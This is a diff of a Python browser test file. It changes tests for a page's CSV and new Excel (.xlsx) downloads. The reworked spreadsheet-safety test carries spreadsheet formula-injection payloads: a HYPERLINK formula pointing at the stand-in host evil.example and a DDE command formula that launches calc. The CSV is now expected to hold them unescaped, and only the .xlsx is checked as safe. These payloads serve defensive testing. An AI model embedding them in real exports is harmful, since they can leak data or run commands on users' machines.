@@ -367,14 +367,11 @@ def test_a_very_long_single_line_renders_as_one_part(page: Page, server: str) ->
     assert_nothing_ran(page)
 
 
-def download_csv(page: Page) -> Download:
-    """Click "Download CSV" once the page is settled, and return the file the browser receives.
-
-    The CSV is made on the server when the button is clicked; on a busy machine that takes a while.
-    """
+def download_csv(page: Page, button: str = "Download CSV") -> Download:
+    """Click a download button once the page is settled, and return the file the browser receives."""
     page.wait_for_selector(SCRIPT_FINISHED, timeout=60_000)
     with page.expect_download(timeout=90_000) as download_info:
-        page.get_by_role("button", name="Download CSV").click()
+        page.get_by_role("button", name=button).click()
     return download_info.value
 
 
@@ -445,14 +442,17 @@ def test_selections_after_emoji_combining_marks_and_hebrew_save_the_right_offset
 # --- spreadsheet safety --------------------------------------------------------------------------------
 
 
-def test_the_downloaded_csv_runs_no_formula_and_reads_back_as_written(page: Page, server: str) -> None:
+def test_the_downloaded_csv_keeps_the_text_and_the_xlsx_runs_no_formula(page: Page, server: str) -> None:
     open_article(page, server, "formulas")
     download = download_csv(page)
     assert download.suggested_filename == "formulas.csv"
     data = Path(download.path()).read_bytes()
-    assert_spreadsheet_safe(data)
-    raw = {cell for line in csv.reader(io.StringIO(data.decode("utf-8"), newline="")) for cell in line}
-    assert '\'=HYPERLINK("http://evil.example/?x","click")' in raw and "'=cmd|' /C calc'!A0" in raw
+    raw = {cell for line in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for cell in line}
+    assert '=HYPERLINK("http://evil.example/?x","click")' in raw and "=cmd|' /C calc'!A0" in raw
+    workbook = download_csv(page, "Download for Excel (.xlsx)")
+    assert workbook.suggested_filename == "formulas.xlsx"
+    cells = {cell for row in assert_spreadsheet_safe(Path(workbook.path()).read_bytes()) for cell in row}
+    assert '=HYPERLINK("http://evil.example/?x","click")' in cells and "=cmd|' /C calc'!A0" in cells
     table = decode_table(data)
     for row in table.itertuples():
         assert FORMULA_TEXT[row.start : row.end] == row.text, row
